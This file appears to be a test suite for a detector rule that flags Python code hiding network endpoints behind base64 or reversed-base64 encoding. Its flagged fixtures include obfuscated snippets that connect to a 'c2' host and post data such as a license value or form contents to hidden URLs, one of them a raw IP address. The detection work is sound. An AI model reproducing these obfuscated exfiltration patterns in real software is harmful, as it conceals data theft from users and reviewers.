import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-hidden-endpoint.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');

ruleTest(rule, {
  clean: [
    { name: 'base64 image data is not a URL', file: 'img.py', code: `import requests\nLOGO = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="\nrequests.get("https://example.org/")\n` },
    { name: 'URL built from plain parts', file: 'client.py', code: `import requests\nBASE = "https://api.example.org"\nrequests.get(BASE + "/v1/items", params={"q": "x"})\n` },
    { name: 'HTTP method names are not addresses', file: 'h.py', code: `from http.client import HTTPSConnection\nconn = HTTPSConnection("api.example.org")\nconn.request("".join(map(chr, [71, 69, 84])), "/status")\n` },
    { name: 'basic-auth header encoded for a request (encoding, not a hidden address)', file: 'auth.py', code: `import base64, requests\ntok = base64.b64encode(b"user:pass").decode()\nrequests.get("https://api.example.org/x", headers={"Authorization": "Basic " + tok})\n` },
  ],
  flagged: [
    {
      name: 'connection to an encoded host through a decoding method',
      file: 'c.py',
      code: `from http.client import HTTPSConnection\nfrom base64 import b64decode\nclass A:\n    def decd(self, data):\n        return b64decode(data[::-1]).decode()\n    def go(self):\n        hosts = ['${b64('c2.example-bad.net').split('').reverse().join('')}']\n        c = HTTPSConnection(self.decd(hosts[0]), timeout=1)\n`,
      findings: [{ line: 8, confidence: 'high', decoded: 'c2.example-bad.net', message: /hidden by reverse → base64/ }],
    },
    {
      name: 'URL kept base64-encoded (raw IP, no request in the file)',
      file: 'scanner.py',
      code: `import base64\nencode_data = "${b64('http://5.42.92.191:5000/post')}"\nurl = base64.b64decode(encode_data).decode()\n`,
      findings: [{ line: 2, severity: 'high', confidence: 'high', decoded: 'http://5.42.92.191:5000/post' }],
    },
    {
      name: 'raw-IP URL kept in base64 in a file that posts data is critical',
      file: 'erc.py',
      code: `import base64\nfrom requests import post\ndef send(p):\n    def h(u, v):\n        post(u, data={"license": v})\n    enc = "${b64('http://5.42.92.191:5000/post')}"\n    h(base64.b64decode(enc).decode(), p)\n`,
      findings: [{ line: 6, severity: 'critical', confidence: 'high', message: /raw IP address, in a file that sends requests/ }],
    },
    {
      name: 'domain URL in base64 posted through a session object',
      file: 'a.py',
      code: `import base64, aiohttp\nKEY = "${b64('http://collector.example.net/upload')}"\nasync def up(form):\n    session = aiohttp.ClientSession()\n    await session.post(base64.b64decode(KEY).decode('utf-8'), data=form)\n`,
      findings: [
        { line: 2, severity: 'high', confidence: 'medium', decoded: 'http://collector.example.net/upload' },
        { line: 5, severity: 'high', confidence: 'high', message: /Connects to an address hidden by base64: http:\/\/collector\.example\.net\/upload/ },
      ],
    },
  ],
});
